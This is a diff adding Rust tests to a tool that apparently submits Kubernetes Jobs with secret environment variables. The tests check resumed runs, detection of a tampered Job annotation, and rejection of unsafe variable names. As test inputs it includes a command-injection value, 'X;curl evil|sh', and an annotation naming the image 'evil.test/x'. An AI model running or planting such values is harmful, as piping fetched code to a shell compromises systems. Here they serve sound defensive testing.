@@ -195,6 +195,25 @@ fn a_submission_that_was_cut_off_needs_the_value_again() {
 }
 
 #[test]
+fn a_file_with_bare_names_finishes_a_run_that_was_cut_off() {
+    let mut world = world();
+    world.write("vision/a.env", "A=1\nHF_TOKEN\n");
+    world.on("*' create '*'-o name'*", "kill -9 $PPID; exit 1");
+    assert_eq!(world.run(&["run", "--secret-env", "HF_TOKEN", "--env-file", "a.env", "train.py"]).code, 137);
+    let journal = world.journals().into_iter().find_map(|name| Some(name.strip_suffix(".json")?.to_owned())).unwrap();
+    forget_calls(&world);
+    world.on("*' create '*'-o name'*", "echo made; exit 0");
+    // a name alone makes nothing of the environment out of what was in a file
+    world.write("vision/b.env", "A=2\nHF_TOKEN\nHOME\n");
+    world
+        .run(&["run", "--resume", &journal, "--env-file", "b.env", "--env-file", "c.env"])
+        .fails(2, "error: there is no file `[DIR]/vision/c.env`\n");
+    world.write("vision/c.env", "A\n");
+    world.run(&["run", "--resume", &journal, "--env-file", "b.env", "--env-file", "c.env"]).ok();
+    assert_eq!(secret(&world)["data"], json!({"HF_TOKEN": ENCODED, "A": "Mg=="}));
+}
+
+#[test]
 fn a_job_whose_secret_is_refused_is_taken_back() {
     let mut world = world();
     world.on(
@@ -380,6 +399,41 @@ hint: to pass your own variables, name them: `--secret-env HF_TOKEN`
     forget_calls(&world);
     world.run(&["rerun", &old, "--env-file", "own.env"]).ok();
     assert_eq!(secret(&world)["data"], json!({"HF_TOKEN": "b2YgdGhlIGZpbGU="}));
+}
+
+/// Whoever may patch Jobs can change what a run's pods are labelled with, which others in the cluster act upon.
+#[test]
+fn values_go_to_no_pod_that_somebody_else_has_shaped() {
+    let mut world = world();
+    let mut job = ended_run(&mut world, &["--secret-env", "HF_TOKEN"]);
+    let old = job["metadata"]["name"].as_str().unwrap().to_owned();
+    world.run(&["rerun", "--dry-run", &old]).ok();
+    let config = job["metadata"]["annotations"]["mrunner/config"].as_str().unwrap();
+    let mut config: Value = serde_json::from_str(config).unwrap();
+    config["pod"] = json!({"annotations": {"inject.example.com/image": "evil.test/x"}});
+    job["metadata"]["annotations"]["mrunner/config"] = config.to_string().into();
+    world.show(&[job]);
+    let outcome = world.run(&["rerun", &old]);
+    let cause = "  cause: the annotation `mrunner/config` of the Job is not the one that this machine submitted: ";
+    assert!(outcome.code == 2 && outcome.stderr.contains(cause), "{outcome:?}");
+    assert!(world.calls_with(" create ").is_empty());
+}
+
+/// A hint is there to be typed.
+#[test]
+fn a_name_that_is_a_command_is_in_no_hint() {
+    let mut world = world();
+    let mut job = ended_run(&mut world, &["--secret-env", "HF_TOKEN"]);
+    let old = job["metadata"]["name"].as_str().unwrap().to_owned();
+    let env = job["spec"]["template"]["spec"]["containers"][0]["env"].as_array_mut().unwrap();
+    let secret = env.iter_mut().find(|variable| variable["name"] == "HF_TOKEN").unwrap();
+    secret["name"] = "X;curl evil|sh".into();
+    job["metadata"]["uid"] = "u-8".into();
+    world.show(&[job]);
+    let outcome = world.run(&["rerun", &old]);
+    let words = "error: the Job of the run `train-[ID]` has a secret variable with an invalid name: `X;curl evil|sh`\n";
+    assert!(outcome.code == 1 && outcome.stderr.contains(words), "{outcome:?}");
+    assert!(!outcome.stderr.contains("--secret-env X"), "{outcome:?}");
 }
 
 #[test]
